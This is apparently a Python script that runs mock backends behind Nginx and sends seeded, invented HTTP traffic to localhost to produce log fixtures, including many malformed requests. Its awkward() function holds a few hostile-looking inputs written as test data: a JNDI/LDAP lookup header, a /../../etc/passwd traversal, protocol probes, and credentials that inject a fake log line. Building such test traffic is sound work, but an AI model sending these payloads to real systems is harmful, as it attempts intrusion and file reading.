"""Sends the requests that fill the logs of this folder, and plays the application servers behind Nginx.

Everything is invented: names, sessions, tokens; addresses are those set aside for documentation. The seed fixes which requests are sent.
"""

import asyncio
import base64
import hashlib
import random
import socket

SHOP, API, STATIC, BLOG, BACKEND = 18081, 18082, 18083, 18084, 18180
rng = random.Random(20260901)


# ---------------------------------------------------------------- the servers behind Nginx

def reply(method, target, rnd):
    """The answer of the application: (seconds to wait, status, header lines, body). rnd depends on the target only."""
    path = target.split(b"?")[0]
    name = path.split(b"/")[1] if path.count(b"/") else b""
    head = [b"Cache-Control: private, max-age=%d" % rnd.choice((0, 60, 600)), b"Vary: Accept-Encoding, Cookie",
            b"X-Cache: " + rnd.choice((b"HIT", b"MISS", b"STALE")),
            b'Server-Timing: db;dur=%d, app;dur=%d' % (rnd.randrange(1, 40), rnd.randrange(1, 90)),
            b"X-Backend: app-%d" % rnd.randrange(1, 4), b'ETag: W/"%016x"' % rnd.getrandbits(64)]
    body = b"<!doctype html>" + b"x" * rnd.randrange(200, 4000)
    kind = b"Content-Type: text/html; charset=utf-8"
    if name == b"v1":
        body = b'{"items":[' + b",".join(b'{"id":%d}' % rnd.randrange(10**6) for _ in range(rnd.randrange(2, 60))) + b"]}"
        kind = b"Content-Type: application/json"
        head += [b"X-RateLimit-Limit: 600", b"X-RateLimit-Remaining: %d" % rnd.randrange(600),
                 b"Link: <https://api.shop.example/v1/orders?page=2>; rel=\"next\""]
        if rnd.random() < 0.04:
            return 0, b"429 Too Many Requests", head + [b"Retry-After: 30", kind], b'{"error":"slow down"}'
        if rnd.random() < 0.03:
            return 0, b"422 Unprocessable Entity", head + [kind], '{"error":"Größe fehlt"}'.encode()
        if method == b"DELETE":
            return 0, b"204 No Content", head, b""
        if method == b"POST":
            return 0, b"201 Created", head + [b"Location: /v1/orders/%d" % rnd.randrange(10**6), kind], body
        return 0, b"200 OK", head + [kind], body
    if name == b"cart" and method == b"POST":
        return 0, b"303 See Other", head + [b"Location: /cart"], b""
    if name == b"login" and method == b"POST":
        return 0, b"302 Found", head + [b"Location: http://shop.example/account",
                                        b"Set-Cookie: session=%032x; Path=/; HttpOnly; SameSite=Lax" % rnd.getrandbits(128),
                                        b"Set-Cookie: csrf=%016x; Path=/" % rnd.getrandbits(64),
                                        b"Set-Cookie: seen=1; Max-Age=31536000"], b""
    if name == b"error":
        return 0, b"500 Internal Server Error", head + [kind, b"X-Error: division by \"zero\" at C:\\app\\cart.py"], b"oops"
    if name == b"slow":
        return 0.25, b"200 OK", head + [kind], body
    if name == b"hang":
        return 1.5, b"200 OK", head + [kind], body
    if name == b"nul":
        return 0, b"200 OK", [b"X-Bad: a\0b", kind], body
    if name == b"odd":
        return 0, b"200 OK", head + [kind, "X-Motto: Füße, 日本語, 🚲".encode(), b"X-Latin: caf\xe9 \xff\xfe", b"X-Tab: a\tb",
                                     b"X-Ctl: \x01\x1b[31m\x7f", b"X-Quote: say \"hi\" \\ 100% & a=b", b"X-Empty:", b"X-Dup: one",
                                     b"X-Dup: two", b"X-Dup: one", b"X-Long: " + b"0123456789abcdef" * 200], body
    if name == b"missing" or rnd.random() < 0.03:
        return 0, b"404 Not Found", head + [kind], b"not here"
    if rnd.random() < 0.3:
        head += [b"Set-Cookie: basket=%08x; Path=/" % rnd.getrandbits(32), b"Set-Cookie: ab=variant-%d" % rnd.randrange(4)]
    if rnd.random() < 0.5:
        head += [b"Strict-Transport-Security: max-age=63072000", b"X-Content-Type-Options: nosniff",
                 b"Content-Security-Policy: default-src 'self'; img-src 'self' data: https://static.shop.example"]
    return 0, b"200 OK", head + [kind], body


async def serve(reader, writer):
    try:
        lines = (await reader.readuntil(b"\r\n\r\n")).split(b"\r\n")
        method, target = lines[0].split(b" ")[0], b" ".join(lines[0].split(b" ")[1:-1])
        for line in lines:
            if line.lower().startswith(b"content-length:"):
                await reader.readexactly(int(line.split(b":")[1]))
        rnd = random.Random(hashlib.sha256(method + b" " + target).digest())
        wait, status, head, body = reply(method, target, rnd)
        await asyncio.sleep(wait)
        if method == b"HEAD" or status[:3] == b"204":
            writer.write(b"HTTP/1.0 " + status + b"\r\n" + b"\r\n".join(head) + b"\r\n\r\n")
        else:
            writer.write(b"HTTP/1.0 " + status + b"\r\n" + b"\r\n".join(head + [b"Content-Length: %d" % len(body)]) + b"\r\n\r\n" + body)
        await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass  # a client that gave up early; Nginx logs it as 499
    finally:
        writer.close()


# ---------------------------------------------------------------- the requests

BROWSERS = [
    b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    b"Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36",
    b"Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/about)",
    b"curl/8.5.0",
]
LANGUAGES = [b"en-US,en;q=0.9", b"de-DE,de;q=0.9,en;q=0.5", b"fr-FR,fr;q=0.8", b"pt-BR", b"ru-RU,ru;q=0.9,en;q=0.3", b"ja"]
GOODS = [b"trail-bike", b"city-bike", b"helmet", b"lock", b"pump", b"bell", b"saddle", b"chain", b"light", b"bottle"]
WORDS = ["größe 42", "vélo", "велосипед", "自転車", "bike lock", "100% wool", "a&b=c", "bell \"brass\"", "pump+hose", "🚲"]


def client_ip():
    return rng.choice(("192.0.2.%d", "198.51.100.%d", "203.0.113.%d")) % rng.randrange(1, 255)


def quoted(text):
    return "".join(chr(b) if chr(b).isalnum() and b < 128 else "%%%02X" % b for b in text.encode()).encode()


def hexes(n):
    return b"%0*x" % (n, rng.getrandbits(4 * n))


def request(method, target, host, headers, body=b""):
    head = [b"%s %s HTTP/1.1" % (method, target), b"Host: " + host] + headers
    if body or method in (b"POST", b"PUT"):
        head.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(head) + b"\r\n\r\n" + body


class Visitor:
    """One browser with its habits: it sends the same headers all its life."""

    def __init__(self):
        self.ip = client_ip().encode()
        self.agent = rng.choice(BROWSERS)
        self.language = rng.choice(LANGUAGES)
        self.session = hexes(32)
        self.referer = rng.choice((b"https://search.example/?q=bike", b"https://shop.example/", b""))

    def headers(self, accept=b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"):
        out = [b"User-Agent: " + self.agent, b"Accept: " + accept, b"Accept-Language: " + self.language,
               b"Accept-Encoding: gzip, deflate, br", b"X-Forwarded-For: " + self.ip, b"X-Forwarded-Proto: https"]
        if self.referer:
            out.append(b"Referer: " + self.referer)
        if b"Chrome" in self.agent:
            out += [b'sec-ch-ua: "Chromium";v="139", "Not;A=Brand";v="99"', b"sec-ch-ua-mobile: ?0", b'sec-ch-ua-platform: "Linux"',
                    b"Sec-Fetch-Site: same-origin", b"Sec-Fetch-Mode: navigate", b"Sec-Fetch-Dest: document"]
        if rng.random() < 0.7:
            out.append(b"Cookie: session=" + self.session + b"; theme=dark")
        if rng.random() < 0.1:
            out.append(b"Cookie: consent=yes")  # a second one: HTTP/2 gateways do that
        if rng.random() < 0.3:
            out.append(b"traceparent: 00-" + hexes(32) + b"-" + hexes(16) + b"-01")
        return out


def shop_request(v):
    roll, host = rng.random(), rng.choice((b"shop.example", b"www.shop.example"))
    good = rng.choice(GOODS)
    if roll < 0.45:
        return request(b"GET", b"/product/%s?color=%s" % (good, rng.choice((b"red", b"blue", b"ivory"))), host, v.headers())
    if roll < 0.60:
        return request(b"GET", b"/search?q=" + quoted(rng.choice(WORDS)) + b"&page=%d" % rng.randrange(1, 9), host, v.headers())
    if roll < 0.66:
        return request(b"GET", b"/recommendations?for=" + good, host, v.headers(b"application/json"))
    if roll < 0.72:
        form = b"item=%s&n=%d" % (good, rng.randrange(1, 5))
        return request(b"POST", b"/cart", host, v.headers() + [b"Content-Type: application/x-www-form-urlencoded"], form)
    if roll < 0.76:
        return request(b"POST", b"/login", host, v.headers() + [b"Content-Type: application/x-www-form-urlencoded"], b"user=x&password=y")
    if roll < 0.80:
        return request(b"HEAD", b"/product/" + good, host, v.headers(b"*/*"))
    if roll < 0.83:
        return request(b"GET", b"/old?id=%d" % rng.randrange(10000), host, v.headers())
    if roll < 0.86:
        user = rng.choice((b"editor:secret", b"shop admin:secret", b"editor:wrong", b"eve:x"))
        return request(b"GET", b"/admin/orders", host, v.headers() + [b"Authorization: Basic " + base64.b64encode(user)])
    if roll < 0.88:
        return request(b"GET", b"/partner/price?token=" + hexes(16), host, v.headers())
    if roll < 0.90:
        return request(b"GET", b"/missing/" + good, host, v.headers())
    if roll < 0.91:
        return request(b"GET", b"/error?cart=1", host, v.headers())
    if roll < 0.93:
        return request(b"GET", rng.choice((b"/internal", b"/maintenance", b"/login/out")), host, v.headers())
    if roll < 0.95:
        return request(b"OPTIONS", b"/cart", host, v.headers() + [b"Origin: https://partner.example",
                                                                  b"Access-Control-Request-Method: POST"])
    if roll < 0.96:
        return request(b"GET", b"/odd/%d" % rng.randrange(9), host, v.headers())
    return request(b"GET", b"/", host, v.headers())


def api_request(v):
    headers = [b"User-Agent: shop-app/%d.%d" % (rng.randrange(3, 6), rng.randrange(10)), b"Accept: application/json",
               b"Authorization: Bearer " + hexes(40), b"X-Request-Id: " + hexes(32), b"X-Api-Version: 2026-09-01",
               b"X-Forwarded-For: %s, 198.51.100.7" % v.ip]
    roll, host = rng.random(), b"api.shop.example"
    if roll < 0.5:
        return request(b"GET", b"/v1/orders/%d" % rng.randrange(10**6), host, headers)
    if roll < 0.7:
        return request(b"GET", b"/v1/search?q=" + quoted(rng.choice(WORDS)), host, headers)
    if roll < 0.85:
        return request(b"POST", b"/v1/orders?try=%d" % rng.randrange(900), host,
                       headers + [b"Content-Type: application/json", b"Idempotency-Key: " + hexes(32)], b'{"item":"bell"}')
    if roll < 0.9:
        return request(b"DELETE", b"/v1/orders/%d" % rng.randrange(10**6), host, headers)
    if roll < 0.93:
        return request(b"GET", b"/v0/items", host, headers)
    if roll < 0.96:
        return request(b"GET", b"/odd/json-%d" % rng.randrange(9), host, headers + ["X-Note: naïve \"quotes\" \\ slash".encode()])
    return request(b"PATCH", b"/v1/orders/%d" % rng.randrange(10**6), host, headers + [b"Content-Type: application/json"], b"{}")


def static_request(v):
    path = rng.choice((b"/css/shop.css", b"/js/shop.js", b"/img/%d.svg" % rng.randrange(1, 14), b"/", b"/favicon.ico"))
    headers = v.headers(b"*/*")
    roll = rng.random()
    if roll < 0.15:
        headers.append(b"If-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT")
    elif roll < 0.2:
        headers.append(b"Range: bytes=0-99")
    elif roll < 0.22:
        headers.append(b"Authorization: Basic " + base64.b64encode(b"John \"J\" Doe:x"))
    return request(b"HEAD" if rng.random() < 0.05 else b"GET", path + (b"?v=%d" % rng.randrange(50)), b"static.shop.example", headers)


def blog_request(v):
    path = rng.choice((b"/2026/09/spring-tyres", b"/2026/08/chain-care", b"/tag/" + quoted(rng.choice(WORDS)), b"/feed", b"/feed.xml"))
    headers = v.headers()
    if rng.random() < 0.5:
        headers.append(b"X-Request-Id: " + hexes(32))
    return request(b"GET", path, b"blog.shop.example", headers)


def awkward():
    """What the world really sends: (port, bytes, whether the request is whole). Each on a connection of its own."""
    out = []

    def add(port, data, whole=True):
        out.append((port, data, whole))

    for port in (SHOP, API, STATIC, BLOG):
        def get(target, *headers, method=b"GET", host=b"shop.example", body=b""):
            add(port, request(method, target, host, list(headers) + [b"Connection: close"], body))

        basic = lambda user: b"Authorization: Basic " + base64.b64encode(user)
        get(b"/a", b"User-Agent: -")
        get(b"/b", b"User-Agent:")
        get(b"/c", b"X-Dash: -", b"X-Empty:", b"X-Spaces:    a  b   ", b"X-Tab:\tx\ty")
        get(b"/d", b"User-Agent: one", b"User-Agent: two", b"X-Dup: 1", b"x-dup: 2", b"X-DUP: 1")
        get(b"/e", b"Cookie: a=1", b"Cookie: b=2; c=\"3\"", b"Referer: http://a.example/?q=\"x\"", b"Referer: second")
        get(b"/f", "User-Agent: Браузер/1.0 (日本; 🚲)".encode(), "X-Name: Zoë".encode())
        get(b"/g", b"User-Agent: bad \xff\xfe bytes \xc3(", b"X-Latin: caf\xe9")
        get(b"/h", b"User-Agent: esc \x1b[31mred\x1b[0m \x01\x02 del\x7f", b"X-Jndi: ${jndi:ldap://203.0.113.9/a}")
        get(b"/i", b"User-Agent: \"quotes\" and \\backslash\\ and \\x22 and \\u0041 and %22 %41")
        get(b"/j", b"X-Amp: a&b=c&d%26e", b"X-Plus: a+b", b"X-Eq: ===", b"X-Pct: %")
        get(b"/k?q=raw \xc3\xa9 space".replace(b" ", b"%20"), "Referer: https://shop.example/größe".encode())
        get("/größe/日本?q=ü".encode(), b"User-Agent: raw utf-8 uri")
        get(b"/\xff\xfe?x=\"'<>\\", b"User-Agent: raw bytes uri")
        get(b"/with%20space/%22quoted%22?a=%00&b=%ff")
        get(b"/big", b"X-Big: " + b"b" * 8000)
        get(b"/many", *[b"X-H-%03d: value %d" % (i, i) for i in range(100)])
        get(b"/user", basic(b"John Doe:secret"))
        get(b"/user", basic(b"us\"er \n\xff\\:secret"))
        get(b"/user", basic(b"] \"GET / HTTP/1.1\" 200:x"))
        get(b"/user", basic(b"-:x"), basic(b"second:x"))
        get(b"/user", b"Authorization: Basic !!!notbase64")
        get(b"/xff", b"X-Forwarded-For: 203.0.113.77, 192.0.2.1", b"X-Forwarded-For: 198.51.100.99")
        get(b"/xff", b"X-Forwarded-For: unknown")
        get(b"/ipv6", b"X-Forwarded-For: 2001:db8::17")
        get(b"/under", b"X_Under_Score: dropped", b"X-\"Odd: dropped", b"X.Dot: dropped")
        get(b"/long?" + b"q" * 3000)
        get(b"/put", method=b"PUT", body=b"x" * 100)
        get(b"/trace", method=b"TRACE")
        get(b"/propfind", method=b"PROPFIND")
        get(b"/large", method=b"POST", body=b"x" * 70000)
        get(b"http://other.example/absolute?x=1", host=b"other.example")
        get(b"/port", host=b"SHOP.example:8443")
        get(b"/nul/1")
        add(port, b"GET /nul-in-header HTTP/1.1\r\nHost: shop.example\r\nX-Ok: before\r\nX-Bad: a\0b\r\nX-After: c\r\n\r\n")
        add(port, b"GET /fold HTTP/1.1\r\nHost: shop.example\r\nX-A: b\r\n folded\r\n\r\n")
        add(port, b"GET /lf HTTP/1.1\nHost: shop.example\nX-A: a\nUser-Agent: bare lf\nConnection: close\n\n")
        add(port, b"GET /two-hosts HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n")
        add(port, b"GET /no-host HTTP/1.1\r\nUser-Agent: x\r\n\r\n")
        add(port, b"GET /one-zero HTTP/1.0\r\nUser-Agent: old\r\n\r\n")
        add(port, b"GET /zero-nine\r\n")
        add(port, b"get /lower HTTP/1.1\r\nHost: shop.example\r\n\r\n")
        add(port, b"FOO-BAR /method HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n")
        add(port, b"GET /a b c HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n")
        add(port, b"GET /version HTTP/9.9\r\nHost: shop.example\r\n\r\n")
        add(port, b"GET /../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\n\r\n")
        add(port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        add(port, b"CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example\r\n\r\n")
        add(port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(32, 96)) + b"\n")
        add(port, b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00")  # remote desktop
        add(port, b"SSH-2.0-Go\r\n")
        add(port, b"\r\n\r\n\r\n")
        add(port, b"\"\\\x01\x1f\x7f\x80\xff\r\n")
        add(port, b"GET /slow-header HTTP/1.1\r\nHost: shop.example\r\nX-Half: ", whole=False)  # Nginx gives up on it: 408
    return out


# ---------------------------------------------------------------- sending

async def read_response(reader, method):
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    fields = dict((k.strip().lower(), v.strip()) for k, _, v in (line.partition(b":") for line in head.split(b"\r\n")[1:]))
    if method == b"HEAD" or status in (204, 304):
        pass
    elif b"content-length" in fields:
        await reader.readexactly(int(fields[b"content-length"]))
    elif fields.get(b"transfer-encoding") == b"chunked":
        while size := int((await reader.readline()).strip(), 16):
            await reader.readexactly(size + 2)
        await reader.readline()
    else:
        await reader.read()
        return False
    return fields.get(b"connection") != b"close"


async def visit(port, requests):
    """Sends the requests one after the other over kept-alive connections."""
    reader = writer = None
    for data in requests:
        if writer is None:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(data)
        if not await read_response(reader, data.split(b" ")[0]):
            writer.close()
            writer = None
    if writer:
        writer.close()


async def send_raw(port, data):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    try:
        await asyncio.wait_for(reader.read(), 5)
    except (asyncio.TimeoutError, ConnectionError):
        pass
    writer.close()


async def give_up(target):
    """A client that hangs up before the answer: 499."""
    _, writer = await asyncio.open_connection("127.0.0.1", SHOP)
    writer.write(request(b"GET", target, b"shop.example", Visitor().headers()))
    await writer.drain()
    await asyncio.sleep(0.05)
    writer.close()


async def wait_for_nginx():
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", SHOP), 1).close()
            return
        except OSError:
            await asyncio.sleep(0.05)
    raise SystemExit("make.py: Nginx does not listen on port %d" % SHOP)


async def main():
    backend = await asyncio.start_server(serve, "127.0.0.1", BACKEND, limit=1 << 20)
    await wait_for_nginx()

    plan = []  # (port, list of raw requests of one visitor)
    for port, make, visitors, each in ((SHOP, shop_request, 160, 11), (API, api_request, 50, 18),
                                       (STATIC, static_request, 140, 10), (BLOG, blog_request, 90, 6)):
        for _ in range(visitors):
            v = Visitor()
            plan.append((port, [make(v) for _ in range(each)]))
    odd = awkward()
    rng.shuffle(plan)
    rng.shuffle(odd)
    slow = [request(b"GET", b"/slow/%d" % i, b"shop.example", Visitor().headers()) for i in range(4)]
    hang = [request(b"GET", b"/hang/%d" % i, b"shop.example", Visitor().headers()) for i in range(2)]

    gate = asyncio.Semaphore(6)

    async def within(coroutine):
        async with gate:
            await coroutine

    jobs = [within(visit(p, r)) for p, r in plan] + [within(send_raw(p, d)) for p, d, whole in odd if whole]
    rng.shuffle(jobs)
    jobs += [send_raw(p, d) for p, d, whole in odd if not whole]  # these wait for a timeout: beside the others
    jobs += [visit(SHOP, slow), visit(SHOP, hang)] + [give_up(b"/slow/gone-%d" % i) for i in range(3)]
    await asyncio.gather(*jobs)
    backend.close()


asyncio.run(main())
